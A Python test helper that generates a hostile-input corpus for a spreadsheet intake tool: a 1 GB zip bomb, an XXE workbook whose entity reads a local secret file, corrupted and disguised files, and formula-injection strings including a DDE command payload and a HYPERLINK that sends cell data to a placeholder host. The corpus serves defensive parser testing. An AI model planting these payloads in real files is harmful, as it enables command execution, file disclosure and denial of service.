"""Generate the hostile-input corpus (no binary blobs are committed).

``make_corpus(dest)`` writes one file (or folder) per case and returns ``{case: path}``.
Everything is built from scratch with ``zipfile``/``struct``: xlsx parts are written as
raw XML so hostile content (strings starting with ``=``, DTDs, a 40,000-character cell)
is stored exactly as an attacker would store it, and OLE2 containers are written by a
small Compound File Binary writer (:func:`cfb_bytes`), which olefile accepts.

Run as a script to inspect the corpus by hand::

    python -m tests.support.hostile_corpus /tmp/corpus
"""

from __future__ import annotations

import math
import os
import struct
import sys
import time
import unicodedata
import warnings
import zipfile
from collections.abc import Callable, Iterable
from pathlib import Path
from xml.sax.saxutils import escape

from xl_addin.core.cells import column_letter
from xl_addin.intake.legacy_encoding import from_unicode

BOMB_DECLARED = 2**30  # ~1 GB declared for the sheet of the zip bomb
JUNK_ROWS = 100_000
LONG_CELL = 40_000
PAST = 3600.0  # corpus files look an hour old, so "still being copied" does not trigger

PHRASES = [
    "Đang triển khai",
    "Hoàn thành quá hạn",
    "Khó khăn, vướng mắc",
    "Sở Tài nguyên và Môi trường",
    "Đề xuất, kiến nghị",
]
INJECTIONS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]

# --- xlsx ---------------------------------------------------------------------------------

_CT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    "{defaults}"
    '<Override PartName="/xl/workbook.xml" ContentType="{main}"/>'
    "{overrides}</Types>"
)
_MAIN_XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
_MAIN_XLSM = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
_SHEET_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
_ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_NS_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_NS_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEET_HEAD = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="{_NS_MAIN}"><sheetData>'
SHEET_TAIL = "</sheetData></worksheet>"


def _cell(ref: str, value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value}</v></c>'
    text = str(value)
    # Keep CR and tabs literally (as &#13; / &#9;) so a reader sees exactly what was typed.
    body = escape(text).replace("\r", "&#13;").replace("\t", "&#9;")
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{body}</t></is></c>'


def rows_xml(rows: Iterable[Iterable[object]], start_row: int = 1) -> str:
    parts = []
    for r, row in enumerate(rows, start=start_row):
        cells = "".join(_cell(f"{column_letter(c)}{r}", v) for c, v in enumerate(row))
        parts.append(f'<row r="{r}">{cells}</row>')
    return "".join(parts)


def write_xlsx(
    path: Path,
    sheets: list[tuple[str, str | Callable[[zipfile.ZipFile], None]]],
    *,
    extra: dict[str, bytes] | None = None,
    macro: bool = False,
    compresslevel: int = 6,
) -> Path:
    """Write a minimal workbook; a sheet body is XML text or a callable that streams it."""
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="{_SHEET_CT}"/>'
        for i in range(1, len(sheets) + 1)
    )
    defaults = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' if macro else ""
    sheet_entries = "".join(
        f'<sheet name="{escape(name)}" sheetId="{i}" r:id="rId{i}"/>' for i, (name, _) in enumerate(sheets, 1)
    )
    workbook = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="{_NS_MAIN}" '
        f'xmlns:r="{_NS_REL}"><sheets>{sheet_entries}</sheets></workbook>'
    )
    rels = "".join(
        f'<Relationship Id="rId{i}" Type="{_NS_REL}/worksheet" Target="worksheets/sheet{i}.xml"/>'
        for i in range(1, len(sheets) + 1)
    )
    if macro:
        vba_type = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
        rels += f'<Relationship Id="rIdVba" Type="{vba_type}" '
        rels += 'Target="vbaProject.bin"/>'
    wb_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rels}</Relationships>'
    )
    main = _MAIN_XLSM if macro else _MAIN_XLSX
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=compresslevel) as zf:
        zf.writestr("[Content_Types].xml", _CT.format(defaults=defaults, main=main, overrides=overrides))
        zf.writestr("_rels/.rels", _ROOT_RELS)
        zf.writestr("xl/workbook.xml", workbook)
        zf.writestr("xl/_rels/workbook.xml.rels", wb_rels)
        for i, (_name, body) in enumerate(sheets, 1):
            if callable(body):
                body(zf)
            else:
                zf.writestr(f"xl/worksheets/sheet{i}.xml", body)
        for name, data in (extra or {}).items():
            zf.writestr(name, data)
    return path


def simple_sheet(rows: Iterable[Iterable[object]]) -> str:
    return SHEET_HEAD + rows_xml(rows) + SHEET_TAIL


# --- Compound File Binary (OLE2) writer ---------------------------------------------------

_FREE, _END, _FATSECT, _NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
_SS, _MINI, _CUTOFF = 512, 64, 4096


def _cfb_key(name: str) -> tuple[int, str]:
    return (len(name), name.upper())


def cfb_bytes(streams: dict[str, bytes]) -> bytes:
    """A version-3 compound file with the given streams directly under the root.

    Streams under 4,096 bytes live in the mini stream, larger ones in regular sectors,
    as [MS-CFB] requires. The directory is a balanced binary tree (all nodes black).
    """
    names = sorted(streams, key=_cfb_key)
    big = [n for n in names if len(streams[n]) >= _CUTOFF]
    small = [n for n in names if len(streams[n]) < _CUTOFF]

    sectors: list[bytes] = []
    fat: list[int] = []

    def add_chain(data: bytes) -> int:
        if not data:
            return _END
        start = len(sectors)
        count = math.ceil(len(data) / _SS)
        for i in range(count):
            sectors.append(data[i * _SS : (i + 1) * _SS].ljust(_SS, b"\x00"))
            fat.append(start + i + 1 if i < count - 1 else _END)
        return start

    starts: dict[str, int] = {}
    for n in big:
        starts[n] = add_chain(streams[n])
    mini_data = b""
    mini_fat: list[int] = []
    for n in small:
        data = streams[n]
        if not data:
            starts[n] = _END
            continue
        first = len(mini_data) // _MINI
        count = math.ceil(len(data) / _MINI)
        starts[n] = first
        mini_fat.extend(first + i + 1 if i < count - 1 else _END for i in range(count))
        mini_data += data.ljust(count * _MINI, b"\x00")
    root_start = add_chain(mini_data)
    mini_fat_bytes = struct.pack(f"<{len(mini_fat)}I", *mini_fat) if mini_fat else b""
    if mini_fat_bytes:
        mini_fat_bytes = mini_fat_bytes.ljust(math.ceil(len(mini_fat_bytes) / _SS) * _SS, b"\xff")
    mini_fat_start = add_chain(mini_fat_bytes)

    # Directory: entry 0 is the root; children form a balanced tree by CFB name order.
    ids = {n: i + 1 for i, n in enumerate(names)}
    left: dict[str, int] = {}
    right: dict[str, int] = {}

    def build(items: list[str]) -> int:
        if not items:
            return _NOSTREAM
        mid = len(items) // 2
        node = items[mid]
        left[node] = build(items[:mid])
        right[node] = build(items[mid + 1 :])
        return ids[node]

    root_child = build(names)

    def entry(name: str, kind: int, l_id: int, r_id: int, child: int, start: int, size: int) -> bytes:
        raw = name.encode("utf-16-le") + b"\x00\x00"
        return struct.pack(
            "<64sHBBIII16sIQQIQ",
            raw.ljust(64, b"\x00"),
            len(raw),
            kind,
            1,  # black
            l_id,
            r_id,
            child,
            b"\x00" * 16,
            0,
            0,
            0,
            start,
            size,
        )

    directory = entry("Root Entry", 5, _NOSTREAM, _NOSTREAM, root_child, root_start, len(mini_data))
    for n in names:
        directory += entry(n, 2, left[n], right[n], _NOSTREAM, starts[n], len(streams[n]))
    empty = struct.pack("<64sHBBIII16sIQQIQ", b"", 0, 0, 0, _NOSTREAM, _NOSTREAM, _NOSTREAM, b"", 0, 0, 0, 0, 0)
    while len(directory) % _SS:
        directory += empty
    dir_start = add_chain(directory)

    # FAT sectors go last; they must also describe themselves.
    n_fat = 1
    while math.ceil((len(sectors) + n_fat) / (_SS // 4)) > n_fat:
        n_fat += 1
    if n_fat > 109:
        raise ValueError("corpus CFB writer supports up to 109 FAT sectors")
    fat_start = len(sectors)
    fat.extend([_FATSECT] * n_fat)
    fat.extend([_FREE] * (n_fat * (_SS // 4) - len(fat)))
    fat_bytes = struct.pack(f"<{len(fat)}I", *fat)
    for i in range(n_fat):
        sectors.append(fat_bytes[i * _SS : (i + 1) * _SS])

    difat = [fat_start + i for i in range(n_fat)] + [_FREE] * (109 - n_fat)
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII109I",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"\x00" * 16,
        0x003E,
        3,
        0xFFFE,
        9,
        6,
        b"\x00" * 6,
        0,  # directory sectors (0 in version 3)
        n_fat,
        dir_start,
        0,
        _CUTOFF,
        mini_fat_start if mini_fat else _END,
        len(mini_fat_bytes) // _SS,
        _END,  # no DIFAT sectors
        0,
        *difat,
    )
    return header + b"".join(sectors)


# --- BIFF8 (.xls) -------------------------------------------------------------------------


def _rec(kind: int, data: bytes = b"") -> bytes:
    return struct.pack("<HH", kind, len(data)) + data


def _bof(dt: int) -> bytes:
    return _rec(0x0809, struct.pack("<HHHHII", 0x0600, dt, 0x0DBB, 0x07CC, 0, 0x06))


def _label(row: int, col: int, text: str) -> bytes:
    raw = text.encode("utf-16-le")
    return _rec(0x0204, struct.pack("<HHHHB", row, col, 15, len(text), 1) + raw)


def _number(row: int, col: int, value: float) -> bytes:
    return _rec(0x0203, struct.pack("<HHHd", row, col, 15, value))


def biff8_workbook(rows: list[list[object]], sheet: str = "Sheet1", *, filepass: bool = False) -> bytes:
    """A minimal BIFF8 Workbook stream: globals (BOF, [FILEPASS], CODEPAGE, 16 XF, BOUNDSHEET) + one sheet."""
    xf = struct.pack("<HHHBBBBIIH", 0, 0, 0xFFF5, 0x20, 0, 0, 0, 0, 0, 0x20C0)
    cell_xf = struct.pack("<HHHBBBBIIH", 0, 0, 0x0001, 0x20, 0, 0, 0, 0, 0, 0x20C0)
    name_raw = sheet.encode("utf-16-le")
    globals_wo_sheet = (
        _bof(0x0005)
        + (_rec(0x002F, struct.pack("<HHH", 1, 1, 1) + b"\x00" * 48) if filepass else b"")
        + _rec(0x0042, struct.pack("<H", 1200))
        + b"".join(_rec(0x00E0, xf) for _ in range(15))
        + _rec(0x00E0, cell_xf)
    )
    boundsheet_len = 4 + 4 + 2 + 2 + len(name_raw)
    eof = _rec(0x000A)
    sheet_offset = len(globals_wo_sheet) + boundsheet_len + len(eof)
    boundsheet = _rec(0x0085, struct.pack("<IBBBB", sheet_offset, 0, 0, len(sheet), 1) + name_raw)
    cells = b""
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            if isinstance(value, int | float):
                cells += _number(r, c, float(value))
            elif value is not None:
                cells += _label(r, c, str(value))
    n_cols = max((len(r) for r in rows), default=0)
    dims = _rec(0x0200, struct.pack("<IIHHH", 0, len(rows), 0, n_cols, 0))
    sheet_stream = _bof(0x0010) + dims + cells + _rec(0x000A)
    return globals_wo_sheet + boundsheet + eof + sheet_stream


# --- the corpus ---------------------------------------------------------------------------


def _zip_bomb(path: Path, declared: int) -> None:
    """~1 GB of rows deflated at level 1 (≈6 MB on disk), streamed in 1 MiB chunks."""
    row = b"<row><c><v>0</v></c></row>"
    chunk = row * ((1 << 20) // len(row))
    head = SHEET_HEAD.encode()
    tail = SHEET_TAIL.encode()

    def stream(zf: zipfile.ZipFile) -> None:
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            fh.write(head)
            written = len(head) + len(tail)
            while written + len(chunk) <= declared:
                fh.write(chunk)
                written += len(chunk)
            fh.write(row * ((declared - written) // len(row)))
            fh.write(tail)

    write_xlsx(path, [("Sheet1", stream)], compresslevel=1)


def _junk_rows(path: Path) -> None:
    table = [["STT", "Nhiệm vụ", "Tiến độ", "Tỷ lệ (%)"]] + [
        [i, f"Nhiệm vụ {i}", "Đang triển khai", 50 + i] for i in range(1, 6)
    ]

    def stream(zf: zipfile.ZipFile) -> None:
        with zf.open("xl/worksheets/sheet1.xml", "w") as fh:
            fh.write((SHEET_HEAD + rows_xml(table)).encode())
            start = len(table) + 1
            batch: list[str] = []
            for r in range(start, start + JUNK_ROWS):
                # What real junk looks like: stray spaces, dashes and formatted-but-empty cells.
                junk = (" ", "-", "", "  ")[r % 4]
                cell = f'<c r="A{r}" t="inlineStr"><is><t xml:space="preserve">{junk}</t></is></c>' if junk else ""
                batch.append(f'<row r="{r}">{cell}<c r="D{r}" s="0"/></row>')
                if len(batch) >= 5000:
                    fh.write("".join(batch).encode())
                    batch.clear()
            fh.write(("".join(batch) + SHEET_TAIL).encode())

    write_xlsx(path, [("Tiến độ", stream)])


def _ods(path: Path, rows: list[list[str]]) -> None:
    cells = "".join(
        "<table:table-row>"
        + "".join(
            f'<table:table-cell office:value-type="string"><text:p>{escape(v)}</text:p></table:table-cell>' for v in row
        )
        + "</table:table-row>"
        for row in rows
    )
    content = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
        f'<office:body><office:spreadsheet><table:table table:name="Sheet1">{cells}</table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
        'manifest:version="1.2"><manifest:file-entry manifest:full-path="/" '
        'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", compress_type=zipfile.ZIP_STORED)
        zf.writestr("content.xml", content, compress_type=zipfile.ZIP_DEFLATED)
        zf.writestr("META-INF/manifest.xml", manifest, compress_type=zipfile.ZIP_DEFLATED)


def make_corpus(dest: Path, *, bomb_declared: int = BOMB_DECLARED) -> dict[str, Path]:
    """Write every hostile case into ``dest`` (created if needed); return ``{case: path}``."""
    dest = Path(dest)
    dest.mkdir(parents=True, exist_ok=True)
    out: dict[str, Path] = {}

    def add(case: str, name: str) -> Path:
        out[case] = dest / name
        return out[case]

    basic = [
        ["STT", "Nhiệm vụ", "Tiến độ"],
        [1, "Lập kế hoạch", "Hoàn thành"],
        [2, "Tổng hợp", "Đang triển khai"],
    ]
    write_xlsx(add("valid", "hop_le.xlsx"), [("Tiến độ", simple_sheet(basic))])
    _zip_bomb(add("zip_bomb", "bom_nen.xlsx"), bomb_declared)
    _junk_rows(add("junk_rows", "dong_rac.xlsx"))

    # Password-protected .xlsx: what Excel writes is an OLE2 container with these streams.
    encryption_info = struct.pack("<HHI", 4, 4, 0x40) + (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
        b'<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption">'
        b'<keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" '
        b'cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/>'
        b"</encryption>"
    )
    package = struct.pack("<Q", 6000) + bytes((i * 7919) % 251 for i in range(6000))
    add("password", "mat_khau.xlsx").write_bytes(
        cfb_bytes({"EncryptionInfo": encryption_info, "EncryptedPackage": package})
    )

    legacy_rows: list[list[object]] = [
        ["STT", "Nhiệm vụ", "Tiến độ"],
        [1, "Lập kế hoạch", "Hoàn thành"],
        [2, "Báo cáo", 75],
    ]
    add("legacy_xls", "cu_2003.xls").write_bytes(cfb_bytes({"Workbook": biff8_workbook(legacy_rows)}))
    add("legacy_xls_password", "cu_2003_mat_khau.xls").write_bytes(
        cfb_bytes({"Workbook": biff8_workbook(legacy_rows, filepass=True)})
    )
    add("ole_not_excel", "van_ban.doc").write_bytes(cfb_bytes({"WordDocument": b"\xec\xa5" + b"\x00" * 5000}))

    vba = cfb_bytes({"dir": b"\x01" * 200, "PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\n'})
    write_xlsx(
        add("xlsm", "co_macro.xlsm"),
        [("Sheet1", simple_sheet(basic))],
        extra={"xl/vbaProject.bin": vba},
        macro=True,
    )

    secret = dest / ".secret.txt"  # hidden, so the scanner skips it
    secret.write_text("MAT-KHAU-BI-MAT-42", encoding="utf-8")
    xxe_sheet = (
        '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
        f'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "{secret.resolve().as_uri()}">]>\n'
        f'<worksheet xmlns="{_NS_MAIN}"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c>'
        "</row></sheetData></worksheet>"
    )
    write_xlsx(add("xxe", "thuc_the_xml.xlsx"), [("Sheet1", xxe_sheet)])
    utf16_sheet = (
        '<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">]>\n'
        f'<worksheet xmlns="{_NS_MAIN}"><sheetData/></worksheet>'
    ).encode("utf-16")
    write_xlsx(add("xxe_utf16", "thuc_the_utf16.xlsx"), [("Sheet1", simple_sheet([]))])
    _replace_member(out["xxe_utf16"], "xl/worksheets/sheet1.xml", utf16_sheet)  # real UTF-16 bytes

    # Two parts with the same name: readers disagree on which one is "the" sheet.
    write_xlsx(add("duplicate_names", "trung_ten.xlsx"), [("Sheet1", simple_sheet(basic))])
    with zipfile.ZipFile(out["duplicate_names"], "a") as zf, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        zf.writestr("xl/worksheets/sheet1.xml", simple_sheet([["Dữ liệu khác"]]))

    injection_rows: list[list[object]] = [["Chuỗi", "Công thức thật"]]
    injection_rows += [[s, None] for s in INJECTIONS]
    sheet = SHEET_HEAD + rows_xml(injection_rows)
    sheet += (
        f'<row r="{len(injection_rows) + 1}"><c r="B{len(injection_rows) + 1}" t="str">'
        '<f>HYPERLINK("http://example.invalid","x")</f><v>x</v></c></row>'
    )
    write_xlsx(add("formula_injection", "cong_thuc.xlsx"), [("Sheet1", sheet + SHEET_TAIL)])

    long_text = ("Nội dung rất dài. " * (LONG_CELL // 18 + 1))[:LONG_CELL]
    write_xlsx(add("long_cell", "o_dai.xlsx"), [("Sheet1", simple_sheet([["Ghi chú"], [long_text]]))])

    legacy_rows_text = [["Gốc", "TCVN3", "VNI"]] + [
        [p, from_unicode(p, "tcvn3"), from_unicode(p, "vni")] for p in PHRASES
    ]
    write_xlsx(add("legacy_text", "bang_ma_cu.xlsx"), [("Sheet1", simple_sheet(legacy_rows_text))])

    nfd_rows = [["NFC", "NFD"]] + [[p, unicodedata.normalize("NFD", p)] for p in PHRASES]
    write_xlsx(add("nfd_text", "to_hop_nfd.xlsx"), [("Sheet1", simple_sheet(nfd_rows))])

    add("lock_file", "~$lock.xlsx").write_bytes(
        b"\x05clerk" + b" " * 49 + b"\x05\x00c\x00l\x00e\x00r\x00k\x00" + b" " * 100
    )
    add("folder", "x.xlsx").mkdir(exist_ok=True)
    add("empty", "rong.xlsx").write_bytes(b"")
    valid_bytes = out["valid"].read_bytes()
    add("truncated", "cat_do.xlsx").write_bytes(valid_bytes[: len(valid_bytes) // 2])

    crc = bytearray(out["valid"].read_bytes())
    with zipfile.ZipFile(out["valid"]) as zf:
        info = zf.getinfo("xl/worksheets/sheet1.xml")
        data_at = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    crc[data_at + info.compress_size // 2] ^= 0xFF
    add("crc_error", "sai_crc.xlsx").write_bytes(bytes(crc))

    with zipfile.ZipFile(add("many_members", "nhieu_thanh_phan.xlsx"), "w") as zf:
        zf.writestr("xl/workbook.xml", "<workbook/>")
        for i in range(10_001):
            zf.writestr(f"xl/m/{i}.xml", "")

    add("html_as_xls", "xuat_tu_web.xls").write_bytes(
        b"\xef\xbb\xbf<html><head><meta charset='utf-8'></head><body><table><tr><td>1</td></tr></table></body></html>"
    )
    add("pdf", "bao_cao.xlsx").write_bytes(
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
    )
    with zipfile.ZipFile(add("docx", "van_ban.docx"), "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("word/document.xml", "<w:document/>")
    _ods(add("ods", "libre.ods"), [["STT", "Nhiệm vụ"], ["1", "Hoàn thành"]])

    past = time.time() - PAST
    for path in out.values():
        os.utime(path, (past, past))
    os.utime(secret, (past, past))
    return out


def _replace_member(path: Path, name: str, data: bytes) -> None:
    """Rewrite ``path`` with ``name`` replaced by ``data`` (zipfile cannot update in place)."""
    with zipfile.ZipFile(path) as zf:
        members = [(info, zf.read(info)) for info in zf.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for info, content in members:
            zf.writestr(info.filename, data if info.filename == name else content)


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile_corpus")
    t0 = time.perf_counter()
    for case, p in make_corpus(target).items():
        size = p.stat().st_size if p.is_file() else 0
        print(f"{case:22s} {size:>12,d}  {p}")
    print(f"generated in {time.perf_counter() - t0:.1f} s")
